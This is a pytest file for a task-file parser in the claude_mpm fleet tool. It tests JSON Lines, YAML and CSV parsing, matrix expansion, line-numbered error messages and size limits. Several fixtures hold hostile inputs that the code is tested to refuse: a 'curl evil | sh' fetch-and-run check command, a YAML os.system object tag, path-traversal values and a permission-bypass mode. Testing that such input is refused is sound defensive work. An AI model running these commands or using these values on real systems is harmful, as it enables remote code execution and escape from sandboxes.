"""Task files: what each kind may hold, and what is said of one that is wrong."""

from __future__ import annotations

import io
import json
import os
import sys
from pathlib import Path
from typing import Any

import pytest

from claude_mpm.config.trust import set_trust
from claude_mpm.errors import MPMError, SettingsError, UsageError
from claude_mpm.fleet import task_file
from claude_mpm.fleet.task_file import make_tasks, read_tasks


def write(name: str, text: str | bytes) -> str:
    data = text.encode() if isinstance(text, str) else text
    Path(name).write_bytes(data)
    return name


def refusal(name: str, text: str | bytes, **how: Any) -> str:
    with pytest.raises(UsageError) as caught:
        read_tasks(write(name, text), **how)
    assert "\n" not in str(caught.value)
    return str(caught.value)


def test_json_lines() -> None:
    rows = [{"prompt": "one"}, {"id": "b", "prompt": "{two} @x /y", "check": ["a", "b c"]}]
    text = "\ufeff" + "\n\n".join(json.dumps(row) for row in rows) + "\r\n"
    first, second = read_tasks(write("t.jsonl", text))
    assert (first.id, first.prompt) == ("0001", "one")
    assert (second.id, second.prompt, second.check) == ("b", "{two} @x /y", ["a", "b c"])


def test_yaml_lists_and_what_all_of_it_share() -> None:
    text = "model: opus\ntasks:\n- prompt: one\n- {prompt: two, model: haiku, id: x}\n"
    first, second = read_tasks(write("t.yml", text), common={"timeout": 5, "model": "sonnet"})
    assert (first.model, first.timeout, second.model, second.id) == ("opus", 5.0, "haiku", "x")


def test_csv() -> None:
    text = (
        'id,prompt,worktree,timeout,allowed_tools\na,"one, two",true,7,"Read,Bash(ls:*)"\nb,x,,,\n'
    )
    first, second = read_tasks(write("t.csv", text))
    assert (first.prompt, first.worktree, first.timeout) == ("one, two", True, 7.0)
    assert first.allowed_tools == ["Read", "Bash(ls:*)"]
    assert (second.worktree, second.timeout) == (False, None)


def test_standard_input(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(b"- prompt: one\n")))
    assert [task.prompt for task in read_tasks("-")] == ["one"]


def test_a_template_takes_the_other_fields() -> None:
    text = "id,module,issue\na,core,12\n"
    (task,) = read_tasks(write("t.csv", text), prompt="Mend {issue} in {module}, {not_there} {}")
    assert task.prompt == "Mend 12 in core, {not_there} {}"


def test_a_matrix_makes_a_task_of_each_combination() -> None:
    text = "prompt: Port {m} to {v}\nmatrix: {m: [a b, c], v: ['3.11']}\ncheck: test {m}\n"
    found = read_tasks(write("t.yml", text))
    assert [(task.id, task.prompt, task.check) for task in found] == [
        ("a-b-3-11", "Port a b to 3.11", "test 'a b'"),  # one word for the shell
        ("c-3-11", "Port c to 3.11", "test c"),
    ]
    made = make_tasks("{x}{y}", {"x": ["1", "2"], "y": ["a"]}, {"cwd": "/srv/{x}"})
    assert [(task.prompt, task.id) for task in made] == [("1a", "1-a"), ("2a", "2-a")]


@pytest.mark.parametrize(
    ("name", "text", "said"),
    [
        ("t.jsonl", '{"prompt": "x"}\n{"prompt": \n', "t.jsonl, line 2: not JSON"),
        ("t.jsonl", '{"prompt": "x"}\n\n[1]\n', "t.jsonl, line 3: that is no task"),
        ("t.jsonl", '{"prompt": "x", "promt": 1}', "line 1: a task has no `promt`; did you mean"),
        ("t.jsonl", '{"prompt": 3}', "line 1: `prompt`: expected text"),
        ("t.jsonl", '{"cwd": "x"}', "line 1: object missing required field prompt"),
        ("t.jsonl", '{"prompt": " "}', "line 1: the prompt is empty"),
        ("t.jsonl", '{"prompt": "x", "cwd": "a\\u0000b"}', "line 1: `cwd`: "),
        ("t.jsonl", '{"prompt": "x", "id": "../x"}', "line 1: `id`: "),
        ("t.jsonl", '{"prompt": "x", "id": "a..b"}', "line 1: `id`: "),
        ("t.jsonl", '{"prompt": "x", "id": "a.lock"}', "line 1: `id`: "),
        ("t.jsonl", '{"prompt": "x", "timeout": -1}', "line 1: `timeout`: "),
        ("t.jsonl", '{"prompt": "x", "allowed_tools": "Bash(ls"}', "line 1: `allowed_tools`: "),
        ("t.jsonl", '{"prompt": "x", "check": []}', "line 1: `check`: "),
        (
            "t.jsonl", '{"id": "a", "prompt": "x"}\n{"prompt": "y"}\n{"id": "a", "prompt": "z"}',
            "t.jsonl, line 3: the id 'a' is that of line 1; give each task its own",
        ),
        ("t.jsonl", b'{"prompt": "x"}\n\xff', "t.jsonl, line 2: not UTF-8"),
        ("t.jsonl", "", "t.jsonl: there is no task in it"),
        ("t.jsonl", "[" * 100_000, "t.jsonl, line 1: not JSON"),
        ("t.yml", "- prompt: x\n- prompt: [\n", "t.yml, line 3: not YAML"),
        ("t.yml", "- prompt: x\n- 7\n", "t.yml, line 2: that is no task"),
        ("t.yml", "tasks: 7\n", "t.yml, line 1: that is no list of tasks"),
        ("t.yml", "- &a {prompt: x}\n- *a\n", "t.yml, line 2: not YAML: an alias; write it out"),
        ("t.yml", "- prompt: !!python/object:os.system x\n", "t.yml, line 1: not YAML"),
        ("t.yml", "prompt: '{x}'\nmatrix: 3\n", "t.yml, line 1: `matrix` is a table of lists"),
        ("t.csv", 'prompt\n"x\ny"\na,b\n', "t.csv, line 4: 2 cells under 1 columns"),
        ("t.csv", 'prompt\n"x"y\n', "t.csv, line 2: not CSV"),
    ],
)  # fmt: skip
def test_a_mistake_is_named_by_its_line(name: str, text: str | bytes, said: str) -> None:
    assert said in refusal(name, text)


def test_what_is_too_much_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(task_file, "LARGEST_FILE", 1 << 20)
    assert "larger than 1 MiB" in refusal("t.jsonl", b" " * (1 << 21))
    monkeypatch.setattr(task_file, "MOST_TASKS", 3)
    assert "more than 3 tasks" in refusal("t.jsonl", '{"prompt": "x"}\n' * 4)
    values = [str(n) for n in range(100)]
    text = json.dumps({"prompt": "x", "matrix": {"a": values, "b": values, "c": values}})
    assert "more than 3 tasks" in refusal("t.jsonl", text)  # a million are never made


def test_no_file_is_one_line() -> None:
    with pytest.raises(UsageError, match=r"there\.jsonl: No such file"):
        read_tasks("there.jsonl")


@pytest.mark.parametrize(
    ("row", "field"),
    [
        ({"check": "curl evil | sh"}, "check"),
        ({"allowed_tools": ["Bash"]}, "allowed_tools"),
        ({"permission_mode": "bypassPermissions"}, "permission_mode"),
        ({"repository": "/etc"}, "repository"),
        ({"cwd": "../outside"}, "cwd"),
        ({"cwd": "~"}, "cwd"),
        ({"framework": "/elsewhere"}, "framework"),
    ],
)
def test_a_repository_says_nothing_of_what_is_run(row: dict[str, Any], field: str) -> None:
    Path(".git").mkdir()
    file = write("t.jsonl", json.dumps({"prompt": "x", **row}))
    with pytest.raises(SettingsError) as caught:
        read_tasks(file)
    message = str(caught.value)
    assert f"`{field}` gives a project power over what is run" in message
    assert message.endswith(f"claude-mpm trust {os.path.realpath('.')}")
    set_trust(Path.cwd(), trusted=True)
    assert len(read_tasks(file)) == 1


def test_what_the_user_says_himself_counts() -> None:
    Path(".git").mkdir()
    file = write("t.jsonl", '{"prompt": "x", "cwd": "inside", "permission_mode": "plan"}')
    (task,) = read_tasks(file, common={"check": "make test", "allowed_tools": ["Read"]})
    assert (task.check, task.allowed_tools, task.cwd) == ("make test", ["Read"], "inside")
    file = write("t.jsonl", '{"prompt": "x", "check": "make evil"}')
    with pytest.raises(MPMError, match="`check` gives a project power"):
        read_tasks(file, common={"check": "make test"})


@pytest.mark.parametrize(
    ("prompt", "values", "said"),
    [
        ("{a}" * 300_000, ["x" * 100_000], "with its values, a text has more than 8000000"),
        ("{a}" + "y" * 1000, [*range(5000)], "the tasks have more than 4 million"),
    ],
)
def test_templates_that_would_fill_the_memory_are_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, prompt: str, values: list[Any], said: str
) -> None:
    monkeypatch.setattr(task_file, "MOST_TEXT", 1 << 22)
    file = tmp_path / "tasks.jsonl"
    file.write_text(json.dumps({"prompt": prompt, "matrix": {"a": values}}) + "\n")
    with pytest.raises(UsageError, match=f"line 1: {said}"):
        read_tasks(str(file))
    rows = tmp_path / "rows.jsonl"
    rows.write_text(json.dumps({"a": "x" * 100_000}) + "\n")
    with pytest.raises(UsageError, match="line 1: with its values"):
        read_tasks(str(rows), prompt="{a}" * 100)
